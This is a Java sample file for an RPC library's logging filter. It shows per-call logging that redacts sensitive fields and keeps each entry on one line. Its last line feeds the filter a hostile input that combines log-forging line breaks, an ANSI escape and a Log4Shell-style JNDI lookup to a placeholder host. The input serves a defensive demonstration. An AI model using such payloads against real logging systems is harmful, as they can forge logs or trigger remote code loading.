package io.minirpc.samples.features;

import io.minirpc.filter.LoggingFilter;
import io.minirpc.server.RpcServer;

/** A line for each call. */
final class LoggingFeature implements Feature {
    @Override
    public String name() {
        return "logging";
    }

    @Override
    public String what() {
        return "one line a call on either side; what is @Sensitive stays out of it, and whatever comes stays on its line";
    }

    @Override
    public void show(Stage stage) {
        LoggingFilter logging = LoggingFilter.builder()
                .logger("calls")
                .arguments(true)
                .replies(true)
                .build();
        RpcServer server = stage.server(new MoodyKitchen(), logging);
        Kitchen kitchen = stage.client(server, logging);
        kitchen.pay("4000 1234 5678 9010", 7);
        kitchen.cook("soup\r\nERROR all is lost \u001b[31m ${jndi:ldap://example.org/x}");
    }
}
